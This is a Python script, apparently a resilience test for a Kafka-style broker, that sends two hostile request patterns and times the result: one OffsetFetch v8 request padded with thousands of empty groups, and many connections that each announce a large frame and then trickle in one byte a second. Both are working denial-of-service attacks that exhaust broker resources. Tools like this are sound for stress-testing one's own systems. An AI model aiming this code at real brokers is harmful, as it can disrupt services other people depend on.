#!/usr/bin/env python3
"""Two requests that cost a broker more than they cost the sender.

  hostile_requests.py offset-fetch HOST:PORT GROUPS
      One OffsetFetch v8 of GROUPS empty groups (3 bytes each on the wire), before any other
      request. Prints what the broker did with it (answered, closed) and how long it took.
  hostile_requests.py slow-senders HOST:PORT CONNECTIONS FRAME_MIB SECONDS
      CONNECTIONS connections each declare a FRAME_MIB request and then send one byte a second,
      while a normal client (kafka-python) produces 100 records to topic `beside-slow` and reads
      them back. Prints how long the normal client took, or that it did not finish in SECONDS.

Exits nonzero only on a usage error.
"""
import socket
import struct
import sys
import threading
import time


def offset_fetch_v8(groups: int) -> bytes:
    client_id = b"weir-hostile"
    # Request header v2: key 9 (OffsetFetch), version 8, correlation id, client id, no tags.
    header = struct.pack(">hhih", 9, 8, 1, len(client_id)) + client_id + b"\x00"
    count = groups + 1
    varint = b""
    while count >= 0x80:
        varint += bytes([(count & 0x7F) | 0x80])
        count >>= 7
    varint += bytes([count])
    # Groups: "" (compact: 1), topics null (0), no tags (0); then require_stable, no tags.
    body = varint + b"\x01\x00\x00" * groups + b"\x00\x00"
    frame = header + body
    return struct.pack(">i", len(frame)) + frame


def offset_fetch(address, groups: int) -> None:
    request = offset_fetch_v8(groups)
    sock = socket.create_connection(address)
    started = time.time()
    try:
        sock.sendall(request)
        sock.settimeout(120)
        head = sock.recv(4)
        if len(head) < 4:
            outcome = "connection closed, no answer"
        else:
            (size,) = struct.unpack(">i", head)
            got = 0
            while got < size:
                chunk = sock.recv(min(size - got, 1 << 20))
                if not chunk:
                    break
                got += len(chunk)
            outcome = f"answered ({got} bytes)"
    except (ConnectionError, socket.timeout) as error:
        outcome = f"connection ended: {error}"
    print(f"{len(request)}-byte request: {outcome} after {time.time() - started:.1f} s", flush=True)


def trickle(address, frame_bytes: int, stop: threading.Event) -> None:
    sock = socket.create_connection(address)
    sock.sendall(struct.pack(">i", frame_bytes))
    while not stop.is_set():
        try:
            sock.sendall(b"\x00")
        except OSError:
            return
        stop.wait(1)


def slow_senders(address, connections: int, frame_mib: int, seconds: float) -> None:
    from kafka import KafkaConsumer, KafkaProducer, TopicPartition

    bootstrap = f"{address[0]}:{address[1]}"
    stop = threading.Event()
    senders = [
        threading.Thread(target=trickle, args=(address, frame_mib << 20, stop), daemon=True)
        for _ in range(connections)
    ]
    for sender in senders:
        sender.start()
    time.sleep(2)
    started = time.time()
    outcome = f"did not finish in {seconds:.0f} s"
    try:
        producer = KafkaProducer(bootstrap_servers=bootstrap, request_timeout_ms=int(seconds * 1000))
        values = [f"record-{i}".encode() for i in range(100)]
        for value in values:
            producer.send("beside-slow", value)
        producer.flush(timeout=seconds)
        consumer = KafkaConsumer(bootstrap_servers=bootstrap, consumer_timeout_ms=1000)
        partition = TopicPartition("beside-slow", 0)
        consumer.assign([partition])
        consumer.seek_to_beginning(partition)
        read = []
        while time.time() - started < seconds and len(read) < 100:
            for message in consumer.poll(timeout_ms=500).get(partition, []):
                read.append(message.value)
        if read[:100] == values:
            outcome = f"100 records produced and read back in {time.time() - started:.1f} s"
    except Exception as error:  # the client's own timeouts
        outcome = f"failed after {time.time() - started:.1f} s: {type(error).__name__}"
    stop.set()
    print(outcome, flush=True)


def main() -> None:
    if len(sys.argv) < 3:
        sys.exit(__doc__)
    host, port = sys.argv[2].rsplit(":", 1)
    address = (host, int(port))
    if sys.argv[1] == "offset-fetch":
        offset_fetch(address, int(sys.argv[3]))
    elif sys.argv[1] == "slow-senders":
        slow_senders(address, int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5]))
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    main()
